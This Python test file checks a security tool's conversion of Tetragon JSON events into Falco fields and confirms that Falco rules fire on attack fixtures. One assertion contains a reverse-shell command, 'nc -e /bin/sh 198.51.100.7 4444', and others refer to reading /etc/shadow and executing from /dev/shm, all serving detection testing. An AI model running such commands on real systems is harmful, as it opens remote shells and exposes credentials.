"""The Tetragon JSON export source.

The fixtures in tests/fixtures/runtime/tetragon are built from the JSON examples of
Tetragon's documentation (see their README.md): the field mapping is checked on
them, and Falco's stable rules must fire on the attacks written in the same shape.
"""

from __future__ import annotations

import json
from collections import Counter
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from secloop.cli.runtime import detect_command
from secloop.runtime.engine import Engine, RuleMatching
from secloop.runtime.event import Event
from secloop.runtime.rules.ruleset import load_rules
from secloop.runtime.sources import TetragonSource, open_source
from secloop.runtime.sources.tetragon import TetragonError, tetragon_payload
from tests.conftest import PROJECT_ROOT, corpus_path

FIXTURES = PROJECT_ROOT / "tests" / "fixtures" / "runtime" / "tetragon"


def events(name: str) -> list[Event]:
    return list(TetragonSource(FIXTURES / name))


def test_process_exec_from_the_docs_maps_to_falco_fields() -> None:
    exec_event = events("docs_examples.jsonl")[0]
    assert exec_event.source == "syscall"
    assert exec_event.time_ns == 1652273685615000000
    get = exec_event.get
    assert get("evt.type") == "execve"
    assert get("proc.name") == "whoami"
    assert get("proc.exepath") == "/usr/bin/whoami"
    assert get("proc.cmdline") == "whoami --version"
    assert get("proc.args") == "--version"
    assert get("proc.pname") == "bash"
    assert get("proc.aname", "1") == "bash"
    assert get("proc.pid") == 51583
    assert get("proc.ppid") == 43872
    assert get("user.uid") == 0
    assert get("user.loginuid") == -1
    assert get("container.id") == "1fb931d2f6e5"
    assert get("container.name") == "spaceship"
    assert get("container.image.repository") == "docker.io/tgraf/netperf"
    assert get("container.image.tag") == "latest"
    assert get("k8s.pod.name") == "xwing"
    assert get("k8s.ns.name") == "default"
    assert get("k8s.pod.label", "class") == "xwing"
    assert get("evt.hostname") == "kind-control-plane"


def test_exit_open_write_and_connect_from_the_docs() -> None:
    found = events("docs_examples.jsonl")
    assert [e.get("evt.type") for e in found] == [
        "execve",
        "procexit",
        "execve",
        "openat",
        "write",
        "execve",
        "connect",
        "procexit",
    ]
    exit_event, opened, written, connected = found[1], found[3], found[4], found[6]
    assert exit_event.get("evt.arg", "status") is not None
    assert (opened.get("fd.name"), opened.get("fd.num"), opened.get("evt.is_open_read")) == (
        "/etc/shadow",
        3,
        True,
    )
    assert opened.get("fd.directory") == "/etc"
    assert written.get("fd.name") == "/etc/bar"
    assert connected.get("fd.name") == "10.32.0.19:33978->104.198.14.52:443"
    assert connected.get("fd.sport") == 443
    assert connected.get("fd.l4proto") == "tcp"
    assert connected.get("fd.typechar") == "4"


def test_a_process_outside_containers_is_on_the_host() -> None:
    payload, _ = tetragon_payload(
        {"process_exec": {"process": {"binary": "/usr/bin/id", "pid": 7}}, "time": "x"}
    )
    assert payload["container.id"] == "host"
    assert "proc.pname" not in payload


@pytest.mark.parametrize(
    ("function", "args", "expected"),
    [
        ("__x64_sys_openat", [{"file_arg": {"path": "/a", "flags": "O_RDWR"}}], "openat"),
        ("tcp_close", [], "close"),
        ("tcp_sendmsg", [], "sendmsg"),
        ("sys_ptrace", [{"int_arg": 16}], "ptrace"),
        ("security_bprm_check", [], "security_bprm_check"),
    ],
)
def test_kprobe_functions_map_to_event_types(
    function: str, args: list[dict[str, Any]], expected: str
) -> None:
    body = {"process": {"binary": "/bin/x"}, "function_name": function, "args": args}
    payload, _ = tetragon_payload({"process_kprobe": body})
    assert payload["evt.type"] == expected


def test_open_for_write_and_ipv6_connect() -> None:
    body = {
        "process": {"binary": "/bin/x"},
        "function_name": "security_file_open",
        "args": [{"file_arg": {"path": "/etc/x", "permission": "FMODE_WRITE"}}],
    }
    payload, _ = tetragon_payload({"process_kprobe": body})
    assert (payload["evt.is_open_write"], payload["evt.is_open_read"]) == (True, False)
    sock = {"family": "AF_INET6", "saddr": "::1", "daddr": "::2", "sport": 1, "dport": 2}
    body = {"process": {"binary": "/bin/x"}, "function_name": "tcp_connect"}
    payload, _ = tetragon_payload({"process_kprobe": {**body, "args": [{"sock_arg": sock}]}})
    assert payload["fd.name"] == "[::1]:1->[::2]:2"


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ([], "a JSON object is expected"),
        ({"process_lsm": {}}, "'process_lsm' is not mapped"),
        ({"node_name": "n"}, "'node_name' is not mapped"),
        ({}, "'empty object' is not mapped"),
        ({"process_exit": {"process": "x"}}, "process_exit without a process"),
    ],
)
def test_unusable_lines_are_refused_with_a_reason(value: object, reason: str) -> None:
    with pytest.raises(TetragonError, match=reason):
        tetragon_payload(value)


def test_malformed_lines_are_dropped_and_counted() -> None:
    source = TetragonSource(FIXTURES / "malformed.jsonl")
    assert len(list(source)) == 1
    assert source.stats.dropped == 5
    assert any("process_tracepoint" in reason for reason in source.stats.reasons)
    assert any("not JSON" in reason for reason in source.stats.reasons)


def test_a_json_array_of_events_is_read(tmp_path: Path) -> None:
    lines = (FIXTURES / "attacks.jsonl").read_text().splitlines()
    path = tmp_path / "array.json"
    path.write_text("[\n" + ",\n".join(lines) + "\n]\n")
    assert len(list(open_source("tetragon", path))) == 3


def test_falco_stable_rules_fire_on_the_attacks() -> None:
    rules_file = corpus_path("falco-rules", "rules", "falco_rules.yaml")
    engine = Engine(load_rules([rules_file]), matching=RuleMatching.ALL)
    alerts = list(engine.run(TetragonSource(FIXTURES / "attacks.jsonl")))
    alerts += engine.run(TetragonSource(FIXTURES / "docs_examples.jsonl"))
    assert Counter(a.rule for a in alerts) == {
        "Netcat Remote Code Execution in Container": 1,
        "Execution from /dev/shm": 1,
        "Read sensitive file untrusted": 1,
    }
    assert not engine.stats.rule_errors


def test_detect_reads_tetragon_through_the_cli() -> None:
    rules_file = corpus_path("falco-rules", "rules", "falco_rules.yaml")
    result = CliRunner().invoke(
        detect_command,
        [
            "--rules",
            str(rules_file),
            "--source",
            "tetragon",
            "--input",
            str(FIXTURES / "attacks.jsonl"),
        ],
    )
    assert result.exit_code == 0, result.output
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    assert [line["rule"] for line in lines] == [
        "Netcat Remote Code Execution in Container",
        "Execution from /dev/shm",
    ]
    assert lines[0]["fields"]["proc.cmdline"] == "nc -e /bin/sh 198.51.100.7 4444"
    assert "3 events, 2 alerts, 0 dropped" in result.stderr


def test_fixture_files_are_documented() -> None:
    readme = (FIXTURES / "README.md").read_text()
    for path in Path(FIXTURES).glob("*.jsonl"):
        assert path.name in readme
